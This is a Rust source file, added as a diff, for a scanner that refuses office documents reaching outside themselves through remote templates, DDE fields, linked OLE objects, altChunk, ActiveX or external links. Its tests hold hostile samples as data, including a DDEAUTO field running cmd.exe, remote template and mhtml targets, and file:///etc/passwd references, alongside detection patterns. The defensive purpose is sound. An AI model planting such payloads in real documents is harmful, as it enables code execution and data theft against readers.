@@ -1,0 +1,464 @@
+//! What in an office document reaches outside it when it is opened: a remote template, an
+//! external OLE link, a frame or `mhtml:` target, a DDE field, a linked object or sheet, an
+//! imported `altChunk` document. Each is active content (`active_content`), refused whatever
+//! the text rules; a plain hyperlink, followed only when a reader clicks it, crosses where the
+//! policy allows hyperlinks.
+//!
+//! ```text
+//!  OOXML  *.rels      ─► relationships: TargetMode="External" (hyperlink: policy switch),
+//!                        mhtml:/file:/UNC targets, altChunk (aFChunk), ActiveX (control)
+//!  OOXML  word parts  ─► fields: w:instrText / w:fldSimple DDE, DDEAUTO, LINK, INCLUDETEXT,
+//!                        INCLUDEPICTURE, IMPORT;  xl externalLinks: ddeLink, oleLink
+//!  ODF    content     ─► DDE sources and connections; xlink:href of objects, images, linked
+//!                        sections and sheets pointing outside the package; text:a (switch);
+//!                        applets, plugins and script event listeners
+//! ```
+//!
+//! References: ECMA-376 Part 2 §9 (relationships) and Part 1 §17.16 (fields), §18.14
+//! (external workbook references); OASIS ODF 1.3 Part 3 §19.910 (xlink:href).
+
+use crate::core::reason::{Reason, Refusal};
+use quick_xml::events::BytesStart;
+use std::io::BufRead;
+
+/// Longest field instruction kept while it is gathered from its runs, in bytes; a longer one
+/// is judged on its start.
+const MAX_INSTRUCTION: usize = 4096;
+
+/// Whether a hyperlink to the outside may cross.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum Hyperlinks {
+    /// Hyperlinks (http, https, mailto) cross: they are followed only when clicked.
+    #[default]
+    Allow,
+    /// Any hyperlink to the outside is refused as active content.
+    Refuse,
+}
+
+impl Hyperlinks {
+    /// The word a policy uses: `allow` or `refuse`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Hyperlinks::Allow => "allow",
+            Hyperlinks::Refuse => "refuse",
+        }
+    }
+
+    /// Parses a policy's word for it.
+    pub fn parse(word: &str) -> Option<Hyperlinks> {
+        match word {
+            "allow" => Some(Hyperlinks::Allow),
+            "refuse" => Some(Hyperlinks::Refuse),
+            _ => None,
+        }
+    }
+
+    /// Whether a hyperlink to `target` crosses: allowed hyperlinks to http, https and mailto;
+    /// never one to a file, a share or an archive format a browser opens as a document.
+    pub fn allows(self, target: &str) -> bool {
+        let lower = target.trim().to_ascii_lowercase();
+        self == Hyperlinks::Allow
+            && ["http://", "https://", "mailto:"]
+                .iter()
+                .any(|s| lower.starts_with(s))
+    }
+}
+
+fn refuse(detail: String) -> Result<(), Refusal> {
+    Err(Refusal::new(Reason::ActiveContent, detail))
+}
+
+/// How a target reaches outside, in words: `None` for a part inside the package.
+fn outside(target: &str) -> Option<&'static str> {
+    let t = target.trim().to_ascii_lowercase();
+    if t.starts_with("\\\\") || t.starts_with("//") {
+        return Some("UNC share");
+    }
+    for (scheme, what) in [
+        ("mhtml:", "mhtml"),
+        ("mk:", "mhtml"),
+        ("file:", "file"),
+        ("http:", "http"),
+        ("https:", "https"),
+        ("ftp:", "ftp"),
+        ("smb:", "smb"),
+        ("ms-", "ms- protocol handler"),
+        ("search-ms:", "search-ms"),
+        ("javascript:", "javascript"),
+        ("vbscript:", "vbscript"),
+        ("data:", "data"),
+    ] {
+        if t.starts_with(scheme) {
+            return Some(what);
+        }
+    }
+    // any other scheme (a letter run then ':'), or a drive letter
+    let scheme_end = t.find(':');
+    if let Some(end) = scheme_end
+        && end > 0
+        && t[..end]
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
+    {
+        return Some(if end == 1 { "local path" } else { "URL" });
+    }
+    (t.starts_with('/') || t.starts_with('\\')).then_some("absolute path")
+}
+
+/// The value of attribute `local` (namespace prefix ignored) of `start`, unescaped.
+fn attribute(start: &BytesStart<'_>, local: &[u8]) -> Option<String> {
+    start.attributes().flatten().find_map(|a| {
+        (a.key.local_name().as_ref() == local)
+            .then(|| {
+                a.normalized_value(quick_xml::XmlVersion::Implicit1_0)
+                    .ok()
+                    .map(|v| v.into_owned())
+            })
+            .flatten()
+    })
+}
+
+/// Checks the relationships of one `.rels` part at `path`: every external target, and the
+/// relationship types that import or run something.
+///
+/// # Errors
+/// Reading `input` failed; malformed XML is a `content_unreadable` refusal.
+pub fn relationships(
+    input: &mut dyn BufRead,
+    path: &str,
+    hyperlinks: Hyperlinks,
+) -> std::io::Result<Result<(), Refusal>> {
+    let mut reader = quick_xml::Reader::from_reader(input);
+    let mut buf = Vec::with_capacity(1024);
+    loop {
+        buf.clear();
+        let event = match reader.read_event_into(&mut buf) {
+            Ok(event) => event,
+            Err(quick_xml::Error::Io(e)) => {
+                return Err(std::io::Error::new(e.kind(), e.to_string()));
+            }
+            Err(e) => {
+                return Ok(Err(Refusal::new(
+                    Reason::ContentUnreadable,
+                    format!("{path}: relationships cannot be read: {e}"),
+                )));
+            }
+        };
+        let start = match &event {
+            quick_xml::events::Event::Start(s) | quick_xml::events::Event::Empty(s) => s,
+            quick_xml::events::Event::Eof => return Ok(Ok(())),
+            _ => continue,
+        };
+        if start.local_name().as_ref() != b"Relationship" {
+            continue;
+        }
+        let kind = attribute(start, b"Type").unwrap_or_default();
+        let kind = kind.rsplit('/').next().unwrap_or_default().to_string();
+        let target = attribute(start, b"Target").unwrap_or_default();
+        let external = attribute(start, b"TargetMode").is_some_and(|m| m == "External");
+        if let Err(r) = relationship(path, &kind, &target, external, hyperlinks) {
+            return Ok(Err(r));
+        }
+    }
+}
+
+/// Judges one relationship of type `kind` (the last segment of its type URI).
+fn relationship(
+    path: &str,
+    kind: &str,
+    target: &str,
+    external: bool,
+    hyperlinks: Hyperlinks,
+) -> Result<(), Refusal> {
+    let shown: String = target.chars().take(200).collect();
+    match kind {
+        "aFChunk" => {
+            return refuse(format!(
+                "{path}: altChunk → {shown:?}: another document Word imports as the body"
+            ));
+        }
+        "control" => return refuse(format!("{path}: ActiveX control → {shown:?}")),
+        _ => {}
+    }
+    let reach = outside(target);
+    if !external && reach.is_none() {
+        return Ok(());
+    }
+    if kind == "hyperlink" && hyperlinks.allows(target) {
+        return Ok(());
+    }
+    let how = reach.unwrap_or("external");
+    refuse(format!("{path}: {kind} → external {how} target ({shown})"))
+}
+
+/// Watches the elements of one document part for fields and links that reach outside, as
+/// [`crate::content::doc`] reads the part.
+#[derive(Debug)]
+pub struct Watch<'a> {
+    path: &'a str,
+    hyperlinks: Hyperlinks,
+    /// Inside a `w:instrText` element.
+    in_instruction: bool,
+    /// The instruction of the field being gathered from its runs.
+    instruction: String,
+}
+
+impl<'a> Watch<'a> {
+    /// A watch over the part at `path`.
+    pub fn new(path: &'a str, hyperlinks: Hyperlinks) -> Watch<'a> {
+        Watch {
+            path,
+            hyperlinks,
+            in_instruction: false,
+            instruction: String::new(),
+        }
+    }
+
+    /// An element starts (or is empty): judges it and its attributes.
+    ///
+    /// # Errors
+    /// The refusal when the element reaches outside.
+    pub fn start(&mut self, start: &BytesStart<'_>) -> Result<(), Refusal> {
+        let path = self.path;
+        let name = start.name();
+        let qualified = name.as_ref();
+        let local = start.local_name();
+        match local.as_ref() {
+            b"instrText" => self.in_instruction = true,
+            b"fldChar" => {
+                // the instruction ends where the field's result begins, or at its end
+                if matches!(
+                    attribute(start, b"fldCharType").as_deref(),
+                    Some("separate" | "end")
+                ) {
+                    self.end_field()?;
+                }
+            }
+            b"fldSimple" => {
+                if let Some(instr) = attribute(start, b"instr") {
+                    field(path, &instr)?;
+                }
+            }
+            b"ddeLink" | b"dde-source" | b"dde-connection-decl" | b"dde-link" => {
+                return refuse(format!(
+                    "{path}: DDE link ({})",
+                    String::from_utf8_lossy(qualified)
+                ));
+            }
+            b"oleLink" => return refuse(format!("{path}: linked OLE object")),
+            b"applet" | b"plugin" => {
+                return refuse(format!("{path}: {}", String::from_utf8_lossy(qualified)));
+            }
+            b"event-listener" => {
+                return refuse(format!("{path}: script event listener"));
+            }
+            _ => {}
+        }
+        // VML OLE objects linked rather than embedded
+        if local.as_ref() == b"OLEObject" && attribute(start, b"Type").as_deref() == Some("Link") {
+            return refuse(format!("{path}: linked OLE object"));
+        }
+        // ODF and VML references by xlink:href / o:href
+        if let Some(href) = attribute(start, b"href")
+            && let Some(how) = outside(&href)
+        {
+            let shown: String = href.chars().take(200).collect();
+            let is_link = matches!(local.as_ref(), b"a" | b"hyperlink" | b"link");
+            if !(is_link && self.hyperlinks.allows(&href)) {
+                return refuse(format!(
+                    "{path}: {} → external {how} target ({shown})",
+                    String::from_utf8_lossy(qualified)
+                ));
+            }
+        }
+        Ok(())
+    }
+
+    /// An element ends.
+    ///
+    /// # Errors
+    /// The refusal when a field that ends here reaches outside.
+    pub fn end(&mut self, local: &[u8]) -> Result<(), Refusal> {
+        if local == b"instrText" {
+            self.in_instruction = false;
+        }
+        Ok(())
+    }
+
+    /// Character data inside the current element.
+    ///
+    /// # Errors
+    /// Never, today; kept for symmetry with the other callbacks.
+    pub fn text(&mut self, text: &str) -> Result<(), Refusal> {
+        if self.in_instruction && self.instruction.len() < MAX_INSTRUCTION {
+            self.instruction.push_str(text);
+        }
+        Ok(())
+    }
+
+    /// The part ends: a field whose instruction never ended is judged too.
+    ///
+    /// # Errors
+    /// The refusal when that field reaches outside.
+    pub fn finish(&mut self) -> Result<(), Refusal> {
+        self.end_field()
+    }
+
+    fn end_field(&mut self) -> Result<(), Refusal> {
+        let instruction = std::mem::take(&mut self.instruction);
+        field(self.path, &instruction)
+    }
+}
+
+/// Judges one field instruction (ECMA-376 Part 1 §17.16.5): DDE and DDEAUTO run a program;
+/// LINK, INCLUDETEXT, INCLUDEPICTURE and IMPORT fetch a file or URL when fields update.
+fn field(path: &str, instruction: &str) -> Result<(), Refusal> {
+    let trimmed = instruction.trim_start();
+    let word: String = trimmed
+        .chars()
+        .take_while(|c| c.is_ascii_alphabetic())
+        .collect::<String>()
+        .to_ascii_uppercase();
+    if matches!(
+        word.as_str(),
+        "DDE" | "DDEAUTO" | "LINK" | "INCLUDETEXT" | "INCLUDEPICTURE" | "IMPORT" | "INCLUDE"
+    ) {
+        let shown: String = trimmed.chars().take(120).collect();
+        return refuse(format!("{path}: field {word} reaches outside ({shown})"));
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rels(xml: &str, hyperlinks: Hyperlinks) -> Result<(), Refusal> {
+        relationships(&mut xml.as_bytes(), "word/_rels/x.rels", hyperlinks).unwrap()
+    }
+
+    fn rel(kind: &str, target: &str, mode: &str) -> String {
+        format!(
+            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>"#
+        )
+    }
+
+    const EXTERNAL: &str = r#" TargetMode="External""#;
+
+    #[test]
+    fn a_remote_template_and_other_external_targets_are_refused() {
+        let r = rels(
+            &rel(
+                "attachedTemplate",
+                "http://198.51.100.23/Normal.dotm",
+                EXTERNAL,
+            ),
+            Hyperlinks::Allow,
+        )
+        .unwrap_err();
+        assert_eq!(r.reason, Reason::ActiveContent);
+        assert!(
+            r.detail
+                .contains("attachedTemplate → external http target (http://198.51.100.23"),
+            "{r}"
+        );
+        for (kind, target) in [
+            (
+                "oleObject",
+                "mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x",
+            ),
+            ("frame", "http://198.51.100.7/frame.html"),
+            ("image", "\\\\198.51.100.7\\share\\a.png"),
+            ("subDocument", "file:///C:/x.docx"),
+        ] {
+            let r = rels(&rel(kind, target, EXTERNAL), Hyperlinks::Allow).unwrap_err();
+            assert!(r.detail.contains(kind), "{r}");
+        }
+        // an internal target that is in fact a URL is refused too
+        assert!(rels(&rel("oleObject", "mhtml:http://x/y", ""), Hyperlinks::Allow).is_err());
+        assert!(rels(&rel("aFChunk", "afchunk.mht", ""), Hyperlinks::Allow).is_err());
+        assert!(
+            rels(
+                &rel("control", "activeX/activeX1.xml", ""),
+                Hyperlinks::Allow
+            )
+            .is_err()
+        );
+    }
+
+    #[test]
+    fn hyperlinks_follow_the_switch_and_internal_parts_pass() {
+        let link = rel("hyperlink", "https://www.court.gov.cn/", EXTERNAL);
+        assert_eq!(rels(&link, Hyperlinks::Allow), Ok(()));
+        assert!(rels(&link, Hyperlinks::Refuse).is_err());
+        // a "hyperlink" to a share or a file is not a plain hyperlink
+        let unc = rel("hyperlink", "\\\\198.51.100.7\\x", EXTERNAL);
+        assert!(rels(&unc, Hyperlinks::Allow).is_err());
+        let internal = rel("styles", "styles.xml", "");
+        assert_eq!(rels(&internal, Hyperlinks::Refuse), Ok(()));
+        assert_eq!(
+            rels(&rel("image", "media/image1.png", ""), Hyperlinks::Allow),
+            Ok(())
+        );
+    }
+
+    #[test]
+    fn dde_and_fetching_fields_are_refused_ordinary_fields_pass() {
+        assert!(
+            field(
+                "p",
+                " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""
+            )
+            .is_err()
+        );
+        assert!(field("p", "INCLUDEPICTURE \"http://198.51.100.7/a.png\" \\d").is_err());
+        assert!(field("p", " PAGE \\* MERGEFORMAT ").is_ok());
+        assert!(field("p", "HYPERLINK \"https://www.court.gov.cn\"").is_ok());
+    }
+
+    fn watched(xml: &str) -> Result<(), Refusal> {
+        let mut watch = Watch::new("content.xml", Hyperlinks::Allow);
+        crate::content::doc::xml_text_watched(&mut xml.as_bytes(), &mut |_| Ok(()), &mut watch)
+            .unwrap()
+    }
+
+    #[test]
+    fn odf_links_to_the_outside_are_refused_and_embedded_ones_pass() {
+        let doc = |inner: &str| {
+            format!(
+                r#"<office:document-content xmlns:office="o" xmlns:text="t" xmlns:draw="d" xmlns:xlink="x" xmlns:table="b"><office:body><office:text>{inner}</office:text></office:body></office:document-content>"#
+            )
+        };
+        let hostile = [
+            r#"<draw:frame><draw:object xlink:href="http://198.51.100.7/o.odt"/></draw:frame>"#,
+            r#"<draw:frame><draw:image xlink:href="\\198.51.100.7\share\a.png"/></draw:frame>"#,
+            r#"<text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section>"#,
+            r#"<text:dde-connection-decl office:dde-application="cmd"/>"#,
+            r#"<table:table><table:table-source xlink:href="https://198.51.100.7/s.ods"/></table:table>"#,
+            r#"<text:p><text:a xlink:href="file:///C:/x.exe">x</text:a></text:p>"#,
+        ];
+        for inner in hostile {
+            let r = watched(&doc(inner)).unwrap_err();
+            assert_eq!(r.reason, Reason::ActiveContent, "{inner}: {r}");
+        }
+        let benign = [
+            r#"<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>"#,
+            r#"<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>"#,
+            r#"<text:p><text:a xlink:href="https://www.court.gov.cn/">法院</text:a></text:p>"#,
+        ];
+        for inner in benign {
+            assert_eq!(watched(&doc(inner)), Ok(()), "{inner}");
+        }
+    }
+
+    #[test]
+    fn outside_targets_are_told_from_parts() {
+        assert_eq!(outside("media/image1.png"), None);
+        assert_eq!(outside("../word/document.xml"), None);
+        assert_eq!(outside("Pictures/1.png"), None);
+        assert_eq!(outside("./Object 1"), None);
+        assert_eq!(outside("C:\\x.dotm"), Some("local path"));
+        assert_eq!(outside("HTTPS://x"), Some("https"));
+        assert_eq!(outside("/etc/passwd"), Some("absolute path"));
+    }
+}
